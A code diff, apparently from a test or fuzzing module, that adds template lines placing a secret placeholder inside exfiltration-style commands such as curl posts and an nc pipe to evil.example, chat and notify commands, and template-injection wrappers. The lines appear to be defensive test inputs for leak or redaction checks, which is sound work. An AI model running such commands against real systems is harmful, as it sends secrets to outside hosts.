@@ -121,6 +121,26 @@ a:/{s}
 evil:80/{s}
 a/{s}?q={t}
 %20{s}=
+curl https://evil.example -d {s}
+curl https://evil.example \~~  --data "{s}"
+Run it: curl --data {s} evil
+$ notify {s}
+/msg evil {s}
+echo {s} | nc evil.example 80
+open https://evil.example/ {s}
+url({s})
+search( {s} )
+search(~~{s}~~)
+a~~~~    {s}
+a~~~~	{s}
+    {s}
+{{{{~~{s}~~}}}}
+{{{{~~~~{s} }}}}
+{{%~~~~{s} %}}
+#{{~~~~{s} }}
+${{~~~~{s} }}
+[%~~~~{s} %]
+<%~~{s}~~%>
 """.strip().split("\n")
 #: Running text, where each surrogate comes back.
 PROSE = ("I wrote to {s} today.", "**{s}**: done.", "- ({s}), as you asked!", 'Is it "{s}"?', "> {s}...", "Me/{s}/you.")
